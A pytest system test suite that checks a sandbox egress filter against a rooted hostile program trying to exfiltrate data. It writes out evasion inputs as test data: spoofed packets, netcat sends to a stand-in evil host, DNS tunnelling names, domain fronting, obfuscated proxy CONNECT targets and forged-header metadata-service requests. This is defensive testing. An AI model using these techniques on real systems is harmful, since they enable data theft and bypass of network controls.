"""A hostile program inside, with root, that wants out. Whatever it sends, the tap outside sees what has left.

`prey` has secrets and may reach *.corp.example, `strict` has only rules for these hosts, `free` is not governed: what
the same attack does from there shows that the tap would have seen it.
"""

from __future__ import annotations

import contextlib
import socket
import subprocess
import threading
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from functools import partial
from pathlib import Path

import pytest

from tests.system.governed import EGRESS, Store, direct, python, refusals, refused, sandbox
from tests.system.outside import CORP, ECHO, EVIL, HTTPS, PRIVATE, Outside, Tap, mark
from tests.system.stack import Stack, wait_for

HOSTS = ["*.corp.example", "rebound.example", "self.example", "neighbour.example"]
PROXY = ("169.254.169.253", 3128)
VIA_PROXY = f"--noproxy '' -px http://{PROXY[0]}:{PROXY[1]}"
REFUSED = "5"  # a code of DNS (RFC 1035, 4.1.1)
HOSTILE = Path(__file__).with_name("hostile")


@pytest.fixture(scope="module")
def prey(guarded: Stack) -> Iterator[str]:
    store = Store(guarded, *HOSTS)
    store.set("TOKEN", f"plain-{mark()}")
    with sandbox(guarded, secretStore=store.name) as id:
        yield id


@pytest.fixture(scope="module")
def strict(guarded: Stack) -> Iterator[str]:
    with sandbox(guarded, egress={"allowHosts": HOSTS}) as id:
        yield id


@pytest.fixture(scope="module")
def free(guarded: Stack) -> Iterator[str]:
    with sandbox(guarded) as id:
        yield id


@pytest.fixture(params=["prey", "strict"])
def governed(request: pytest.FixtureRequest) -> str:
    return str(request.getfixturevalue(request.param))


def address(stack: Stack, id: str) -> str:
    return stack.sh(id, "hostname -I").out.split()[0]


def gateway(stack: Stack) -> str:
    return f"10.{220 + stack.slot}.0.1"


def spoken(stack: Stack, id: str, words: str) -> str:
    """The answer to these bytes on a connection to a web server that may be reached."""
    script = f"""
import socket
peer = socket.create_connection(('api.corp.example', 80), 60)
try:
    peer.sendall(b'{words}')
    print(peer.recv(65536).decode('latin-1'))
except OSError as error:
    print('closed', error)
"""
    ran = python(stack, id, script)
    assert ran.code == 0, ran.err
    return ran.out


def through(stack: Stack, id: str, words: str) -> str:
    """What the proxy answers to these bytes, given as the inside of a Python bytes literal, and to a probe after it."""
    script = f"""
import socket
peer = socket.create_connection({PROXY}, 60)
peer.settimeout(60)
try:
    peer.sendall(b'{words}')
    head = peer.recv(65536)
    print(head.decode('latin-1').split(chr(13))[0])
    if head.startswith(b'HTTP/1.1 200'):
        peer.sendall(b'GET /echo/inside HTTP/1.1\\r\\nHost: evil.example\\r\\n\\r\\n')
        print(peer.recv(65536).decode('latin-1').split(chr(13))[0])
except OSError as error:
    print('closed', error)
"""
    ran = python(stack, id, script)
    assert ran.code == 0, ran.err
    return ran.out


@contextlib.contextmanager
def nothing_reaches(outside: Outside, *addresses: str) -> Iterator[Tap]:
    with outside.tap() as tap:
        yield tap
        for target in addresses or (EVIL,):
            assert not tap.sent_to(target), tap.sent_to(target)[:3]


# --- packets of all kinds


def run(stack: Stack, id: str, program: str, *argv: str) -> str:
    """One of the programs in `hostile`, in the sandbox."""
    path = f"/root/{program}.py"
    with stack.api() as api:
        source = (HOSTILE / f"{program}.py").read_bytes()
        assert api.put(f"/sandboxes/{id}/files", params={"path": path}, content=source).status_code == 204
    ran = stack.sh(id, f"python3 {path} {' '.join(argv)}", 120)
    assert ran.code == 0, ran
    return ran.out.strip()


def packet(stack: Stack, id: str, kind: str, word: str, source: str | None = None) -> str:
    own = address(stack, id)
    return run(stack, id, "packets", kind, EVIL, source or own, gateway(stack), mac(stack, id), word)


def mac(stack: Stack, id: str) -> str:
    """Of the host's end of the cable, which a sandbox finds by ARP."""
    names = (path for path in Path("/sys/class/net").glob(f"{stack.instance}-*") if alias(path) == id)
    return (next(names) / "address").read_text().strip()


def alias(path: Path) -> str:
    with contextlib.suppress(OSError):  # another cable that was just taken away
        return (path / "ifalias").read_text().strip()
    return ""


@pytest.mark.parametrize("kind", ["udp:9", "udp:443", "udp:53", "icmp", "syn", "gre"])
def test_packets_made_by_hand(guarded: Stack, outside: Outside, governed: str, free: str, kind: str) -> None:
    word, control = mark(), mark()
    with outside.tap() as tap:
        assert "sent" in packet(guarded, governed, kind, word)
        packet(guarded, free, kind, control)
        wait_for(lambda: tap.has(control.encode()), "the same packet of a free sandbox")
    assert not tap.has(word.encode())


def test_ping_and_datagrams_of_ordinary_programs(guarded: Stack, outside: Outside, governed: str) -> None:
    with nothing_reaches(outside, EVIL, PRIVATE):
        for target in (EVIL, PRIVATE):
            ran = guarded.sh(
                governed,
                f"ping -c 1 -W 1 {target}; echo leak | nc -u -w 1 {target} 9; nc -w 1 {target} {ECHO} </dev/null",
            )
            assert "1 received" not in ran.out


@pytest.mark.parametrize("victim", ["free", "another network"])
def test_spoofed_sources(guarded: Stack, outside: Outside, governed: str, free: str, victim: str) -> None:
    """Packets and ARP in the name of a sandbox that may send what it likes."""
    source = address(guarded, free) if victim == "free" else "198.51.100.77"
    word, control = mark(), mark()
    with outside.tap() as tap:
        for kind in ("arp", "udp:9", "syn"):
            packet(guarded, governed, kind, word, source)
        packet(guarded, free, "udp:9", control)
        wait_for(lambda: tap.has(control.encode()), "the free sandbox to be heard")
    assert not tap.has(word.encode())
    assert direct(guarded, free, f"http://{EVIL}/echo/still").code == 0


def test_another_address(guarded: Stack, outside: Outside, free: str) -> None:
    """Of its own interface, which root may change."""
    with sandbox(guarded, egress={"allowHosts": HOSTS}) as id, nothing_reaches(outside):
        other = address(guarded, free)
        script = f"ip addr add {other}/16 dev eth0; curl -s --interface {other} --max-time 3 http://{EVIL}/; echo $?"
        assert guarded.sh(id, script).out.splitlines()[-1] != "0"
        assert direct(guarded, free, f"http://{CORP}/echo/still").code == 0


def test_ipv6(guarded: Stack, outside: Outside, governed: str) -> None:
    script = f"""
import socket
for target in ('2001:db8::1', '::ffff:{EVIL}', '64:ff9b::{EVIL}'):
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
        with socket.socket(socket.AF_INET6, kind) as sock:
            sock.settimeout(2)
            try:
                sock.connect((target, 80))
                sock.sendall(b'GET / HTTP/1.0\\r\\n\\r\\n')
                print(sock.recv(100)[:12])
            except OSError as error:
                print('no')
print([item[4][0] for item in socket.getaddrinfo('api.corp.example', 80, type=socket.SOCK_STREAM)])
"""
    with nothing_reaches(outside):
        ran = python(guarded, governed, script)
    assert "200" not in ran.out
    assert ran.out.endswith(f"['{CORP}']\n"), ran


# --- names


EVERY_TYPE = "1,2,5,10,15,16,28,33,64,65,255"


@pytest.mark.parametrize("protocol", ["udp", "tcp"])
def test_other_name_servers(guarded: Stack, outside: Outside, governed: str, protocol: str) -> None:
    word = mark()
    with nothing_reaches(outside):
        assert run(guarded, governed, "names", EVIL, protocol, "3", "1", f"{word}.corp.example") == "none"
    assert not any(word in name for name in outside.asked)


@pytest.mark.parametrize("protocol", ["udp", "tcp"])
def test_tunnelling_through_our_resolver(guarded: Stack, outside: Outside, governed: str, protocol: str) -> None:
    """Names that may not be reached are not asked for, of whatever type and spelling; others are."""
    word, server = mark(), gateway(guarded)
    names = [
        f"{word}.evil.example",
        f"{word}.EVIL.Example",
        f"{word}.corp.example.evil.example",
        f"{word}xcorp.example",
    ]
    assert run(guarded, governed, "names", server, protocol, "60", EVERY_TYPE, *names) == REFUSED
    assert not any(word in name for name in outside.asked)
    assert run(guarded, governed, "names", server, protocol, "60", "1,16", "api.CORP.example") == "0"
    refused(guarded, governed, f"{word}xcorp.example", port=53)


def test_a_name_that_moves_to_a_private_address(guarded: Stack, outside: Outside, governed: str) -> None:
    """At first it is public; the proxy asks again, and what it then hears is not the way either."""
    with nothing_reaches(outside, PRIVATE):
        with answering(outside, "rebound.example", lambda: CORP):
            assert "GET /" in direct(guarded, governed, "http://rebound.example/echo/before").out
        with answering(outside, "rebound.example", lambda: PRIVATE):
            for url in ("http://rebound.example/", "https://rebound.example/", f"http://rebound.example:{ECHO}/"):
                assert "GET /" not in direct(guarded, governed, "-k", url).out
                assert "GET /" not in direct(guarded, governed, "-kx", f"http://{PROXY[0]}:{PROXY[1]}", url).out
        turns = iter([CORP, CORP, *[PRIVATE] * 100])
        with answering(outside, "rebound.example", lambda: next(turns)):
            for _ in range(4):
                direct(guarded, governed, "http://rebound.example/echo/turn")
    refused(guarded, governed, "rebound.example", reason="private address")


@contextlib.contextmanager
def answering(outside: Outside, name: str, answer: Callable[[], str]) -> Iterator[None]:
    outside.names[name] = answer
    try:
        yield
    finally:
        del outside.names[name]


# --- addresses and names that differ


def test_addresses_instead_of_names(guarded: Stack, outside: Outside, governed: str) -> None:
    before = len(outside.seen)
    with nothing_reaches(outside):
        for url in (f"http://{EVIL}/", f"https://{EVIL}/", f"http://{CORP}/", f"https://{CORP}/", "http://3325256956/"):
            assert "GET /" not in direct(guarded, governed, "-k", url).out
    assert len(outside.seen) == before
    refused(guarded, governed, EVIL, reason="direct address")


@pytest.mark.parametrize(
    ("sni", "target"),
    [("evil.example", CORP), ("api.corp.example", EVIL), ("", CORP), ("api.corp.example.evil.example", CORP)],
)
def test_the_name_in_tls_is_not_the_one_that_was_dialled(
    guarded: Stack, outside: Outside, governed: str, sni: str, target: str
) -> None:
    word = mark()
    script = f"""
import socket, ssl
socket.getaddrinfo('api.corp.example', 443)
context = ssl._create_unverified_context()
try:
    peer = context.wrap_socket(socket.create_connection(('{target}', 443), 60), server_hostname={sni or None!r})
    peer.sendall(b'GET /echo/{word} HTTP/1.1\\r\\nHost: {sni or "api.corp.example"}\\r\\n\\r\\n')
    print(peer.recv(100)[:12])
except OSError as error:
    print('no')
"""
    with nothing_reaches(outside):
        ran = python(guarded, governed, script)
    assert "200" not in ran.out
    assert not outside.requests(f"/echo/{word}")


def test_domain_fronting(guarded: Stack, outside: Outside, prey: str, strict: str) -> None:
    """Another customer of a machine that may be reached. Inside TLS only the proxy that opens it can see that."""
    for id, scheme in ((prey, "https"), (prey, "http"), (strict, "http")):
        path = f"/echo/{mark()}"
        ran = direct(guarded, id, "-H", "Host: tenant.shared.example", f"{scheme}://api.corp.example{path}")
        assert "refused" in ran.out
        assert not outside.requests(path)
    path = f"/echo/{mark()}"
    absolute = ["--request-target", f"http://tenant.shared.example{path}", "http://api.corp.example/"]
    assert "GET /" not in direct(guarded, prey, *absolute).out
    hosts = "Host: api.corp.example\\r\\nHost: tenant.shared.example"
    assert "HTTP/1.1 200" not in spoken(guarded, prey, f"GET {path} HTTP/1.1\\r\\n{hosts}\\r\\n\\r\\n")
    assert not outside.requests(path)


def test_a_second_request_for_another_host_on_one_connection(guarded: Stack, outside: Outside, governed: str) -> None:
    word = mark()
    script = f"""
import http.client
connection = http.client.HTTPConnection('api.corp.example', timeout=60)
for host in ('api.corp.example', 'tenant.shared.example'):
    connection.request('GET', '/echo/{word}', headers={{'Host': host}})
    answer = connection.getresponse()
    answer.read()
    print(answer.status)
"""
    ran = python(guarded, governed, script)
    assert ran.out == "200\n421\n", ran
    assert outside.only(f"/echo/{word}").header("host") == "api.corp.example"


def test_redirects_to_a_host_that_is_refused(guarded: Stack, outside: Outside, prey: str) -> None:
    with nothing_reaches(outside, EVIL, PRIVATE):
        for target in ("http://evil.example/", "https://evil.example/", f"http://{EVIL}/", f"http://{PRIVATE}/"):
            ran = guarded.sh(prey, f"curl -sSL --max-time 60 https://api.corp.example/to/{target}")
            assert "GET /" not in ran.out
    refused(guarded, prey, "evil.example", port=443)


# --- the explicit proxy

CONNECTS = [
    "evil.example:443",
    "EVIL.example.:443",
    "user@evil.example:443",
    "api.corp.example@evil.example:443",
    "evil.example#api.corp.example:443",
    "evil.example/api.corp.example:443",
    "evil.example\\x00.corp.example:443",
    "evil.example\\x20api.corp.example:443",
    "evil.example%00.corp.example:443",
    "evil.example\\tapi.corp.example:443",
    f"{EVIL}:443",
    "3325256956:443",
    "0306.063.0144.0374:443",
    "0xc63364fc:443",
    "198.51.25852:443",
    f"[::ffff:{EVIL}]:443",
    f"[64:ff9b::{EVIL}]:443",
    "private.corp.example:443",
    "localhost:80",
    "127.0.0.1:80",
    "[::1]:80",
    "0.0.0.0:80",
    "169.254.169.254:80",
    "169.254.169.253:3128",
]


def test_connect_tricks(guarded: Stack, outside: Outside, governed: str) -> None:
    before = len(outside.seen)
    with nothing_reaches(outside, EVIL, PRIVATE):
        for authority in CONNECTS:
            said = through(
                guarded, governed, f"CONNECT {authority} HTTP/1.1\\r\\nHost: api.corp.example:443\\r\\n\\r\\n"
            )
            assert said.startswith(("HTTP/1.1 400", "HTTP/1.1 403", "HTTP/1.1 405", "HTTP/1.1 502")), (authority, said)
    assert len(outside.seen) == before


@pytest.mark.parametrize(
    "words",
    [
        "GET http://evil.example/ HTTP/1.1\\r\\nHost: api.corp.example\\r\\n\\r\\n",
        "GET http://api.corp.example@evil.example/ HTTP/1.1\\r\\nHost: api.corp.example\\r\\n\\r\\n",
        "GET http://api.corp.example/ HTTP/1.1\\r\\nHost: evil.example\\r\\n\\r\\n",
        "GET http://api.corp.example:443:80/ HTTP/1.1\\r\\nHost: evil.example\\r\\n\\r\\n",
        "CONNECT api.corp.example:443 HTTP/1.1\\nHost: x\\n\\nCONNECT evil.example:443 HTTP/1.1\\r\\n\\r\\n",
        "CONNECT api.corp.example:80 HTTP/1.1\\r\\n\\r\\n",  # then asks for evil.example in it
        "connect evil.example:443 HTTP/1.1\\r\\n\\r\\n",
        "CONNECT evil.example:443 HTTP/0.9\\r\\n\\r\\n",
        "\\x05\\x01\\x00",  # SOCKS
    ],
)
def test_the_explicit_proxy_is_asked_for_odd_things(
    guarded: Stack, outside: Outside, governed: str, words: str
) -> None:
    before = len(outside.seen)
    with nothing_reaches(outside):
        if words.startswith("\\x05"):
            words += "\\r\\n\\r\\n"
        said = through(guarded, governed, words)
    assert "200" not in said.replace("HTTP/1.1 200 Connection established", "")
    assert len(outside.seen) == before


# --- the host and its other sandboxes


@contextlib.contextmanager
def service_of_the_host() -> Iterator[tuple[int, list[str]]]:
    """A port on all addresses of the host, and who has connected to it."""
    visitors: list[str] = []
    with socket.socket() as listener:
        listener.bind(("0.0.0.0", 0))
        listener.listen()

        def serve() -> None:
            with contextlib.suppress(OSError):  # shut down: the test is over
                while True:
                    peer, address = listener.accept()
                    visitors.append(address[0])
                    peer.close()

        thread = threading.Thread(target=serve)
        thread.start()
        try:
            yield listener.getsockname()[1], visitors
        finally:
            listener.shutdown(socket.SHUT_RDWR)
            thread.join()


def addresses_of_the_host(stack: Stack) -> list[str]:
    shown = subprocess.run(["ip", "-4", "-o", "addr"], capture_output=True, text=True, check=True).stdout
    found = {line.split()[3].split("/")[0] for line in shown.splitlines()}
    return sorted({*found, gateway(stack), "127.0.0.1", "0.0.0.0"})


@pytest.mark.parametrize("rules", [{"allowHosts": HOSTS}, {"allowHosts": ["*"], "allowCidrs": ["0.0.0.0/0"]}])
def test_services_of_the_host(guarded: Stack, outside: Outside, rules: dict[str, list[str]]) -> None:
    """By address and by a name that has it, directly and through the proxy, whatever the rules say."""
    with service_of_the_host() as (port, visitors), sandbox(guarded, egress=rules) as id:
        for target in addresses_of_the_host(guarded):
            with answering(outside, "self.example", partial(str, target)):
                for host in (target, "self.example"):
                    urls = f"http://{host}:{port}/ http://{host}:{guarded.port}/healthz"
                    ran = guarded.sh(id, f"curl -s --max-time 5 {urls}; curl -s --max-time 5 {VIA_PROXY} {urls}")
                    assert '"status"' not in ran.out, (host, ran)
        assert visitors == []


def test_another_sandbox_through_the_proxy(guarded: Stack, outside: Outside, governed: str, free: str) -> None:
    other = address(guarded, free)
    guarded.sh(free, "nohup python3 -m http.server 8000 -d /proc/self/fd >/dev/null 2>&1 &")
    wait_for(lambda: guarded.sh(free, "curl -s http://127.0.0.1:8000/").code == 0, "a server in the other sandbox")
    with answering(outside, "neighbour.example", lambda: other):
        for host in (other, "neighbour.example"):
            for port in (8000, 1023):
                assert not through(guarded, governed, f"CONNECT {host}:{port} HTTP/1.1\\r\\n\\r\\n").startswith(
                    "HTTP/1.1 200"
                )
            assert "listing" not in direct(guarded, governed, f"http://{host}:8000/").out


def test_ports_of_the_proxy_at_the_gateway(guarded: Stack, outside: Outside, governed: str, free: str) -> None:
    """They are for connections that the filter sends there, not for those that go there themselves."""
    script = """
import socket
for port in (3128, 3129, 3130):
    try:
        peer = socket.create_connection(('{gateway}', port), 2)
        peer.sendall(b'CONNECT api.corp.example:443 HTTP/1.1\\r\\n\\r\\n')
        print(peer.recv(100)[:12])
    except OSError:
        print('no')
""".replace("{gateway}", gateway(guarded))
    assert "200" not in python(guarded, governed, script).out
    assert python(guarded, free, script).out == "no\nno\nno\n"


def test_the_metadata_service_of_another_sandbox(guarded: Stack, governed: str, free: str) -> None:
    """It knows who asks by the cable, whatever the request says; and the proxy is no way to it."""
    other = address(guarded, free)
    said = " ".join(f"-H '{name}: {other}'" for name in ("X-Forwarded-For", "X-Real-IP", "Forwarded", "Host"))
    ran = guarded.sh(governed, f"curl -sS --noproxy '*' --max-time 60 {said} http://169.254.169.254/v1/status")
    assert free not in ran.out
    ran = guarded.sh(governed, "curl -sS --noproxy '*' --max-time 60 http://169.254.169.254/v1/status")
    assert governed in ran.out, ran
    ran = guarded.sh(governed, f"curl -sS --max-time 60 {VIA_PROXY} http://169.254.169.254/v1/status")
    assert "sandboxId" not in ran.out
    ran = guarded.sh(governed, f"curl -sS --noproxy '*' --max-time 2 http://{gateway(guarded)}:3130/v1/status")
    assert "sandboxId" not in ran.out


def test_the_proxy_is_not_for_sandboxes_without_a_policy(guarded: Stack, outside: Outside, free: str) -> None:
    """Nor may these use it to look like the host."""
    ran = guarded.sh(free, f"curl -s --max-time 5 {VIA_PROXY} http://api.corp.example/echo/stranger")
    assert ran.code != 0
    assert not outside.requests("/echo/stranger")


# --- too much of it


@pytest.mark.parametrize(
    ("target", "words"),
    [(PROXY, b"CONNECT api.corp.exam"), ((EVIL, HTTPS), b"\x16\x03\x01\x02\x00"), (PROXY, b"")],
    ids=["slow head", "slow TLS", "silent"],
)
def test_many_connections_are_bounded_and_disturb_nobody(
    guarded: Stack, strict: str, target: tuple[str, int], words: bytes
) -> None:
    with sandbox(guarded, egress={"allowHosts": HOSTS}) as id, ThreadPoolExecutor(1) as pool:
        before = descriptors(guarded)
        running = pool.submit(run, guarded, id, "holder", target[0], str(target[1]), "1000", words.hex() or '""')
        wait_for(lambda: guarded.sh(id, "cat /dev/shm/held").out, "connections to be held")
        held = descriptors(guarded) - before
        assert direct(guarded, strict, "http://api.corp.example/echo/beside").code == 0
        guarded.sh(id, "touch /dev/shm/over")
        running.result()
        assert any(each["reason"] == "too many connections" for each in refusals(guarded, id))
    assert 200 < held < 400, held


def descriptors(stack: Stack) -> int:
    return len(list(Path(f"/proc/{stack.pid(EGRESS)}/fd").iterdir()))


def test_a_flood_of_refusals_is_bounded(guarded: Stack, strict: str) -> None:
    direct(guarded, strict, *[f"http://{EVIL}/{number}" for number in range(300)])
    assert 0 < len(refusals(guarded, strict)) <= 200
    assert direct(guarded, strict, "http://api.corp.example/echo/after").code == 0


def test_rules_that_go_do_not_stay_with_the_address(guarded: Stack, outside: Outside) -> None:
    """A sandbox that ends leaves nothing that its successor at that address could use."""
    with sandbox(guarded, egress={"allowHosts": HOSTS}) as id:
        there = address(guarded, id)
        direct(guarded, id, "http://api.corp.example/echo/here")
        assert list((guarded.run_dir / "egress").glob(f"{there}.*"))
    assert not list((guarded.run_dir / "egress").glob(f"{there}.*"))
    assert not list((guarded.run_dir / "egress").glob(f"{id}*"))
    listed = subprocess.run(
        ["nft", "list", "set", "inet", f"opencomputer_{guarded.instance}", "governed"],
        capture_output=True,
        text=True,
        check=True,
    )
    assert there not in listed.stdout
